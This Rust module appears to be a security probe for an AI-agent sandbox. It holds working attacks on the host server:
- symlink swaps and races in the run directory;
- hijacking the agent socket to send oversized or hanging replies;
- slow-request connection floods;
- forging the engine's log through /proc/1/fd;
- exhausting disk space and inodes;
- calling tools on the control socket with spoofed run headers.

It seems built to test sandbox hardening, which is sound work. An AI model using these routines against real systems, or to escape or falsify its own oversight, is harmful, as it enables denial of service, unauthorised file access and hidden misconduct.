//! Attacks on the server's side of the sandbox: the sockets in the run dir, what the server reads
//! from the sandbox, and the sandbox's own filesystem.

use std::fs;
use std::io::{self, Read, Write};
use std::os::unix::fs::symlink;
use std::os::unix::io::AsRawFd;
use std::os::unix::net::{UnixListener, UnixStream};
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use serde_json::{json, Value};

/// The run dir as the sandbox sees it.
const RUN: &str = "/run/clawpen";

fn run_path(name: &str) -> PathBuf {
    Path::new(RUN).join(name)
}

/// Replaces `name` in the run dir with a symlink to `to` (a path as the host sees it: the
/// server is the one who would follow it).
pub fn relink(name: &str, to: &str) -> Value {
    let p = run_path(name);
    let removed = fs::remove_file(&p).err().map(|e| e.to_string());
    match symlink(to, &p) {
        Ok(()) => json!({ "ok": true, "path": p, "to": to, "remove_error": removed }),
        Err(e) => json!({ "ok": false, "error": e.to_string() }),
    }
}

/// For `secs` seconds, renames fresh symlinks to `to` over `name` in the run dir as fast as it
/// can, so that any server operation by path on `name` would follow one.
pub fn race_links(name: &str, to: &str, secs: u64) -> Value {
    let target = run_path(name);
    let deadline = Instant::now() + Duration::from_secs(secs);
    let (mut swaps, mut errors, mut last_error) = (0u64, 0u64, None);
    let tmp = run_path(&format!(".race-{}", std::process::id()));
    while Instant::now() < deadline {
        let _ = fs::remove_file(&tmp);
        match symlink(to, &tmp).and_then(|()| fs::rename(&tmp, &target)) {
            Ok(()) => swaps += 1,
            Err(e) => {
                errors += 1;
                last_error = Some(e.to_string());
            }
        }
    }
    let _ = fs::remove_file(&tmp);
    json!({ "swaps": swaps, "errors": errors, "last_error": last_error })
}

/// Replaces the agent's listener on `agent.sock` with one of the probe's (non-blocking).
fn take_over_agent_sock() -> Result<UnixListener, Value> {
    let p = run_path("agent.sock");
    let _ = fs::remove_file(&p);
    let listener = UnixListener::bind(&p).map_err(|e| json!({ "ok": false, "error": format!("binding {}: {e}", p.display()) }))?;
    let _ = listener.set_nonblocking(true);
    Ok(listener)
}

/// Takes `agent.sock` over with a listener of its own that answers every request with a body of
/// `bytes` bytes (announced with its length, or chunked when `chunked`), for `secs` seconds.
pub fn serve_huge(bytes: u64, secs: u64, chunked: bool) -> Value {
    let listener = match take_over_agent_sock() {
        Ok(l) => l,
        Err(v) => return v,
    };
    let deadline = Instant::now() + Duration::from_secs(secs);
    let (mut served, mut written) = (0u64, 0u64);
    let chunk = vec![b'7'; 64 * 1024];
    while Instant::now() < deadline {
        let mut conn = match listener.accept() {
            Ok((c, _)) => c,
            Err(e) if e.kind() == io::ErrorKind::WouldBlock => {
                std::thread::sleep(Duration::from_millis(5));
                continue;
            }
            Err(_) => continue,
        };
        let _ = conn.set_nonblocking(false);
        let _ = conn.set_write_timeout(Some(Duration::from_secs(5)));
        let _ = conn.set_read_timeout(Some(Duration::from_secs(2)));
        // The request head (and whatever body came with it) is read and ignored.
        let mut buf = [0u8; 8192];
        let _ = conn.read(&mut buf);
        served += 1;
        let head = if chunked {
            "HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ntransfer-encoding: chunked\r\n\r\n".to_owned()
        } else {
            format!("HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: {bytes}\r\n\r\n")
        };
        if conn.write_all(head.as_bytes()).is_err() {
            continue;
        }
        let mut left = bytes;
        while left > 0 {
            let n = left.min(chunk.len() as u64) as usize;
            let ok = if chunked {
                conn.write_all(format!("{n:x}\r\n").as_bytes()).and_then(|()| conn.write_all(&chunk[..n])).and_then(|()| conn.write_all(b"\r\n"))
            } else {
                conn.write_all(&chunk[..n])
            };
            if ok.is_err() {
                break;
            }
            written += n as u64;
            left -= n as u64;
        }
        if chunked && left == 0 {
            let _ = conn.write_all(b"0\r\n\r\n");
        }
    }
    json!({ "ok": true, "served": served, "bytes_written": written })
}

/// Takes `agent.sock` over and accepts every connection without ever answering, for `secs`.
pub fn hang(secs: u64) -> Value {
    let listener = match take_over_agent_sock() {
        Ok(l) => l,
        Err(v) => return v,
    };
    let deadline = Instant::now() + Duration::from_secs(secs);
    let mut held = Vec::new();
    while Instant::now() < deadline {
        match listener.accept() {
            Ok((c, _)) => held.push(c),
            Err(_) => std::thread::sleep(Duration::from_millis(20)),
        }
    }
    json!({ "ok": true, "held": held.len() })
}

/// Writes `text` (escapes and all) to the sandbox's log: the standard output and error of its
/// first process, which is what the engine records.
pub fn forge_log(text: &str) -> Value {
    let mut results = Vec::new();
    for fd in [1, 2] {
        let path = format!("/proc/1/fd/{fd}");
        let r = fs::OpenOptions::new().write(true).open(&path).and_then(|mut f| f.write_all(text.as_bytes()));
        results.push(json!({ "path": path, "ok": r.is_ok(), "error": r.err().map(|e| e.to_string()) }));
    }
    json!({ "writes": results })
}

/// Raises this process's open-file limit to its hard limit; returns the soft limit in force.
fn raise_nofile() -> u64 {
    let mut lim = libc::rlimit { rlim_cur: 0, rlim_max: 0 };
    // SAFETY: `lim` is a valid rlimit for getrlimit/setrlimit to read and write.
    unsafe {
        libc::getrlimit(libc::RLIMIT_NOFILE, &mut lim);
        let raised = libc::rlimit { rlim_cur: lim.rlim_max, rlim_max: lim.rlim_max };
        if libc::setrlimit(libc::RLIMIT_NOFILE, &raised) == 0 {
            lim = raised;
        }
    }
    lim.rlim_cur
}

/// What each flooding connection does once connected.
#[derive(Debug, Clone, Copy, clap::ValueEnum)]
pub enum FloodMode {
    /// Sends nothing.
    Idle,
    /// Sends a request head one byte a second.
    SlowHeaders,
    /// Sends 1 MiB of headers.
    BigHeaders,
    /// Sends a head announcing a 2 MiB body, then a byte a second.
    SlowBody,
}

/// Opens up to `count` connections to `name` in the run dir (non-blocking: a full backlog is
/// counted, not waited on), does `mode` on each, and holds them for `hold_secs`.
pub fn flood(name: &str, count: u64, hold_secs: u64, mode: FloodMode) -> Value {
    let nofile = raise_nofile();
    let p = run_path(name);
    let started = Instant::now();
    let mut held: Vec<UnixStream> = Vec::new();
    let (mut refused, mut would_block, mut other, mut last_error) = (0u64, 0u64, 0u64, None::<String>);
    for _ in 0..count {
        match connect_nonblocking(&p) {
            Ok(s) => held.push(s),
            Err(e) => {
                match e.raw_os_error() {
                    Some(libc::EAGAIN) => would_block += 1,
                    Some(libc::ECONNREFUSED) => refused += 1,
                    _ => other += 1,
                }
                last_error = Some(e.to_string());
                if e.raw_os_error() == Some(libc::EMFILE) {
                    break;
                }
            }
        }
    }
    let connected = held.len();
    let open_ms = started.elapsed().as_millis() as u64;
    let mut sent = 0u64;
    match mode {
        FloodMode::Idle => std::thread::sleep(Duration::from_secs(hold_secs)),
        FloodMode::BigHeaders => {
            let mut head = b"POST /v1/chat/completions HTTP/1.1\r\nhost: meter\r\n".to_vec();
            while head.len() < 1024 * 1024 {
                head.extend_from_slice(b"x-filler: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\r\n");
            }
            for s in &mut held {
                sent += write_some(s, &head);
            }
            std::thread::sleep(Duration::from_secs(hold_secs));
        }
        FloodMode::SlowHeaders | FloodMode::SlowBody => {
            let head: &[u8] = match mode {
                FloodMode::SlowBody => b"POST /v1/chat/completions HTTP/1.1\r\nhost: meter\r\ncontent-type: application/json\r\ncontent-length: 2097152\r\n\r\n",
                _ => b"",
            };
            if !head.is_empty() {
                for s in &mut held {
                    sent += write_some(s, head);
                }
            }
            let slow: &[u8] = if matches!(mode, FloodMode::SlowBody) { b"{" } else { b"POST /v1/chat/completions HTTP/1.1\r\nx-a: b" };
            let deadline = Instant::now() + Duration::from_secs(hold_secs);
            let mut i = 0;
            while Instant::now() < deadline {
                let byte = &slow[i % slow.len()..i % slow.len() + 1];
                for s in &mut held {
                    sent += write_some(s, byte);
                }
                i += 1;
                std::thread::sleep(Duration::from_secs(1));
            }
        }
    }
    // How many the server still holds open at the end (it closes the ones it timed out).
    let still_open = held.iter().filter(|s| is_open(s)).count();
    json!({
        "nofile": nofile,
        "attempted": count,
        "connected": connected,
        "would_block": would_block,
        "refused": refused,
        "other_errors": other,
        "last_error": last_error,
        "open_ms": open_ms,
        "bytes_sent": sent,
        "still_open": still_open,
    })
}

fn connect_nonblocking(p: &Path) -> io::Result<UnixStream> {
    use std::os::unix::ffi::OsStrExt;
    // SAFETY: a plain socket() call; the fd is owned by the UnixStream below or closed.
    let fd = unsafe { libc::socket(libc::AF_UNIX, libc::SOCK_STREAM | libc::SOCK_NONBLOCK | libc::SOCK_CLOEXEC, 0) };
    if fd < 0 {
        return Err(io::Error::last_os_error());
    }
    // SAFETY: `fd` is a fresh socket owned from here on.
    let stream = unsafe { <UnixStream as std::os::unix::io::FromRawFd>::from_raw_fd(fd) };
    // SAFETY: zeroed sockaddr_un is valid; the path is copied within its bounds below.
    let mut addr: libc::sockaddr_un = unsafe { std::mem::zeroed() };
    addr.sun_family = libc::AF_UNIX as libc::sa_family_t;
    let bytes = p.as_os_str().as_bytes();
    if bytes.len() >= addr.sun_path.len() {
        return Err(io::Error::new(io::ErrorKind::InvalidInput, "socket path too long"));
    }
    for (d, s) in addr.sun_path.iter_mut().zip(bytes) {
        *d = *s as libc::c_char;
    }
    let len = (std::mem::size_of::<libc::sa_family_t>() + bytes.len() + 1) as libc::socklen_t;
    // SAFETY: `addr` is a valid sockaddr_un of `len` bytes.
    let rc = unsafe { libc::connect(stream.as_raw_fd(), (&addr as *const libc::sockaddr_un).cast(), len) };
    if rc != 0 {
        return Err(io::Error::last_os_error());
    }
    Ok(stream)
}

fn write_some(s: &mut UnixStream, bytes: &[u8]) -> u64 {
    let mut n = 0;
    while (n as usize) < bytes.len() {
        match s.write(&bytes[n as usize..]) {
            Ok(0) | Err(_) => break,
            Ok(k) => n += k as u64,
        }
    }
    n
}

/// True while the peer has not closed the connection.
fn is_open(s: &UnixStream) -> bool {
    let mut b = [0u8; 1];
    // SAFETY: MSG_PEEK|MSG_DONTWAIT into a valid 1-byte buffer.
    let n = unsafe { libc::recv(s.as_raw_fd(), b.as_mut_ptr().cast(), 1, libc::MSG_PEEK | libc::MSG_DONTWAIT) };
    n < 0 && io::Error::last_os_error().raw_os_error() == Some(libc::EAGAIN)
}

/// Writes into `dir` until not one more byte fits: 1 MiB chunks, then ever smaller ones after
/// each failure; reports how much went in and how the last write failed.
pub fn fill_disk(dir: &str, max_mib: u64) -> Value {
    let path = Path::new(dir).join(format!("fill-{}", std::process::id()));
    let chunk = vec![0x5au8; 1024 * 1024];
    let mut written = 0u64;
    let mut last = None;
    match fs::File::create(&path) {
        Err(e) => last = Some(e),
        Ok(mut f) => {
            let mut size = chunk.len();
            while written < max_mib << 20 {
                match f.write(&chunk[..size]) {
                    Ok(0) => break,
                    Ok(n) => written += n as u64,
                    Err(e) if size > 1 => {
                        size /= 2;
                        last = Some(e);
                    }
                    Err(e) => {
                        last = Some(e);
                        break;
                    }
                }
            }
            if let Err(e) = f.sync_all() {
                last = Some(e);
            }
        }
    }
    let errno = last.as_ref().and_then(io::Error::raw_os_error);
    json!({ "path": path, "bytes_written": written, "errno": errno, "error": last.map(|e| e.to_string()) })
}

/// Creates empty files in `dir` until one fails (or `max` are made).
pub fn fill_inodes(dir: &str, max: u64) -> Value {
    let base = Path::new(dir).join(format!("inodes-{}", std::process::id()));
    if let Err(e) = fs::create_dir_all(&base) {
        return json!({ "created": 0, "errno": e.raw_os_error(), "error": e.to_string() });
    }
    let mut created = 0u64;
    let mut failure = None;
    for i in 0..max {
        match fs::File::create(base.join(i.to_string())) {
            Ok(_) => created += 1,
            Err(e) => {
                failure = Some(e);
                break;
            }
        }
    }
    json!({ "created": created, "errno": failure.as_ref().and_then(io::Error::raw_os_error), "error": failure.map(|e| e.to_string()) })
}

/// Makes `path` a sparse file of `bytes` (nothing written: it costs no disk).
pub fn sparse(path: &str, bytes: u64) -> Value {
    match fs::OpenOptions::new().write(true).create(true).truncate(false).open(path).and_then(|f| f.set_len(bytes)) {
        Ok(()) => json!({ "ok": true, "path": path, "bytes": bytes }),
        Err(e) => json!({ "ok": false, "errno": e.raw_os_error(), "error": e.to_string() }),
    }
}

/// One HTTP/1.1 request on control.sock: the status and the body as JSON (or its text).
fn control_request(method: &str, path: &str, headers: &[(&str, &str)], body: &str) -> Value {
    let mut s = match UnixStream::connect(run_path("control.sock")) {
        Ok(s) => s,
        Err(e) => return json!({"error": e.to_string()}),
    };
    let _ = s.set_read_timeout(Some(Duration::from_secs(30)));
    let mut req = format!("{method} {path} HTTP/1.1\r\nhost: meter\r\nconnection: close\r\ncontent-type: application/json\r\ncontent-length: {}\r\n", body.len());
    for (k, v) in headers {
        req.push_str(&format!("{k}: {v}\r\n"));
    }
    req.push_str("\r\n");
    req.push_str(body);
    if let Err(e) = s.write_all(req.as_bytes()) {
        return json!({"error": e.to_string()});
    }
    let mut answer = Vec::new();
    let _ = s.take(1 << 20).read_to_end(&mut answer);
    let text = String::from_utf8_lossy(&answer);
    let status: u16 = text.split(' ').nth(1).and_then(|c| c.parse().ok()).unwrap_or(0);
    let body = text.split_once("\r\n\r\n").map(|(_, b)| b).unwrap_or_default();
    // A chunked body: the JSON is between the first size line and the last.
    let json = body.find('{').and_then(|i| body.rfind('}').map(|j| &body[i..=j])).and_then(|j| serde_json::from_str::<Value>(j).ok());
    json!({"status": status, "body": json.unwrap_or_else(|| Value::String(body.chars().take(2000).collect()))})
}

/// Lists the tools, then calls `tool` with `args` once per run id (`-`: without the header).
pub fn tool_calls(tool: &str, args: &str, runs: &[String]) -> Value {
    let listed = control_request("GET", "/v1/tools", &[], "");
    let args: Value = serde_json::from_str(args).unwrap_or(Value::String(args.to_owned()));
    let body = json!({"name": tool, "arguments": args}).to_string();
    let calls: Vec<Value> = runs
        .iter()
        .map(|run| {
            let headers: Vec<(&str, &str)> = if run == "-" { Vec::new() } else { vec![("x-clawpen-run", run.as_str())] };
            json!({"run": run, "answer": control_request("POST", "/v1/tools/call", &headers, &body)})
        })
        .collect();
    json!({"tools": listed, "calls": calls})
}
